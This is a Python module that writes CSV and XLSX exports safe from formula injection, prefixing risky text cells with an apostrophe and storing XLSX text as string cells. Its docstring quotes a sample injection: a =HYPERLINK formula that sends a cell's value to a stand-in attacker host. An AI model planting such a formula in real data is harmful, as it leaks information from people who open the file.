"""CSV and XLSX exports that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with '=', '+', '-' or '@' (and
some read past a leading tab or carriage return), so a student named
``=HYPERLINK("http://evil.example/?x="&A2)`` would run in the reader's spreadsheet. Such a cell
is written with a leading apostrophe, which spreadsheets show as text (OWASP's advice for CSV
injection). In an XLSX file every text cell is stored as a string cell, which no spreadsheet
evaluates, so it keeps its text as typed. Numbers are written as numbers: a negative distance never occurs, and a number
cannot carry a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def spreadsheet_safe(value: object) -> object:
    """The value as a cell no spreadsheet evaluates: text that could start a formula gets a
    leading apostrophe; anything else (numbers, None) is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def to_csv(rows: Iterable[Mapping[str, object]], fields: list[str]) -> str:
    """``rows`` as CSV text with a header of ``fields`` (other keys ignored), every text cell
    made spreadsheet-safe."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=fields, extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: spreadsheet_safe(v) for k, v in row.items()})
    return out.getvalue()


XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def to_xlsx(rows: Iterable[Mapping[str, object]], fields: list[str], title: str) -> bytes:
    """``rows`` as a one-sheet XLSX workbook with a header of ``fields``; text is stored as
    string cells (openpyxl would otherwise store text starting with '=' as a formula)."""
    from openpyxl import Workbook  # the web's dependency only: the frontend never exports
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=title[:31])

    def cell(value: object) -> WriteOnlyCell:
        out = WriteOnlyCell(
            sheet, value=value if value is None or isinstance(value, (int, float)) else str(value)
        )
        if isinstance(out.value, str):
            out.data_type = "s"
        return out

    sheet.append([cell(f) for f in fields])
    for row in rows:
        sheet.append([cell(row.get(f)) for f in fields])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
